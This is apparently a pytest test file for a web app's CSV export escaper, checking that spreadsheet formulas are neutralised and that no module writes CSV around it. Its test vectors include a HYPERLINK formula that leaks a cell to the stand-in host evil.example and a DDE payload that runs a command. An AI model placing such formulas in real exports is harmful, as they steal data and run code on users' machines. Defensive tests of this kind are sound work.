"""Every CSV export goes through one escaper (``app.csv_export``), and the escaper keeps formulas text.

Issue 13 measured a department named ``=HYPERLINK(...)`` reaching ``sla.csv`` as a live formula;
the web test of that file is in tests/web/test_input_hardening.py. Here: the escaper on fixed
vectors (OWASP's CSV injection list), the exports that do not need a database, and a check on
the source that no module of ``app/`` writes CSV past the escaper.
"""
from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

from app import csv_export
from app.services.records.imports import ImportReport

ROOT = Path(__file__).resolve().parents[2]
APP = ROOT / "app"
ESCAPER = "app/csv_export.py"
WRITERS = {"writer", "DictWriter"}

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(("value", "written"), [
    (PAYLOAD, "'" + PAYLOAD),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("测试局", "测试局"),
    ("a=b", "a=b"),  # only the first character makes a formula
    ("", ""),
])
def test_a_text_cell_that_a_spreadsheet_would_run_gets_a_leading_quote(value, written):
    assert csv_export.cell(value) == written


@pytest.mark.parametrize("value", [-3, 0, 2.5, None])
def test_numbers_are_written_as_they_are(value):
    assert csv_export.cell(value) == value


def test_the_file_starts_with_a_bom_and_reads_back_cell_for_cell():
    body = csv_export.text(["name", "rate"], [[PAYLOAD, -1], ['say "hi", then\nleave', "0.5000"]])
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert rows == [["name", "rate"], ["'" + PAYLOAD, "-1"], ['say "hi", then\nleave', "0.5000"]]


def test_a_stream_comes_in_pieces_of_the_chunk_size():
    pieces = list(csv_export.stream(["n"], ([i] for i in range(5)), chunk=2))
    assert pieces == ["\ufeffn\r\n", "0\r\n1\r\n", "2\r\n3\r\n", "4\r\n"]


def test_the_import_error_report_keeps_a_quoted_cell_text():
    """A report quotes the file's own bad cell back (an unknown category): not as a formula."""
    report = ImportReport(rows=1, errors=[(2, "category", PAYLOAD), (3, "sector", "@cmd")])
    rows = list(csv.reader(io.StringIO(report.as_csv().lstrip("\ufeff"))))
    assert rows == [["Row", "Column", "Problem"], ["2", "category", "'" + PAYLOAD], ["3", "sector", "'@cmd"]]


# ---------------------------------------------------------------------------------------
# No CSV past the escaper
# ---------------------------------------------------------------------------------------

def csv_writer_uses(name: str, source: str) -> list[str]:
    """Uses of ``csv.writer``/``csv.DictWriter`` (or those names imported from csv) in a module."""
    found, aliases, imported = [], {"csv"}, set()
    tree = ast.parse(source)
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            aliases |= {a.asname or a.name for a in node.names if a.name == "csv"}
        elif isinstance(node, ast.ImportFrom) and node.module == "csv":
            imported |= {a.asname or a.name for a in node.names if a.name in WRITERS}
            found += [f"{name}:{node.lineno} imports csv.{a.name}" for a in node.names if a.name in WRITERS]
    for node in ast.walk(tree):
        if (isinstance(node, ast.Attribute) and node.attr in WRITERS and isinstance(node.value, ast.Name)
                and node.value.id in aliases):
            found.append(f"{name}:{node.lineno} csv.{node.attr}")
        elif isinstance(node, ast.Name) and node.id in imported and isinstance(node.ctx, ast.Load):
            found.append(f"{name}:{node.lineno} {node.id}")
    return found


def test_no_module_of_the_app_writes_csv_but_the_escaper():
    offenders = []
    for path in sorted(APP.rglob("*.py")):
        name = str(path.relative_to(ROOT))
        if name != ESCAPER:
            offenders += csv_writer_uses(name, path.read_text(encoding="utf-8"))
    assert offenders == []


@pytest.mark.parametrize("source", [
    "import csv\nw = csv.writer(out)\n",
    "import csv as c\nw = c.DictWriter(out, fields)\n",
    "from csv import writer\nw = writer(out)\n",
])
def test_the_source_check_finds_a_direct_writer(source):
    assert csv_writer_uses("x.py", source)


def test_the_source_check_leaves_readers_alone():
    assert csv_writer_uses("x.py", "import csv\nrows = csv.reader(f)\n") == []
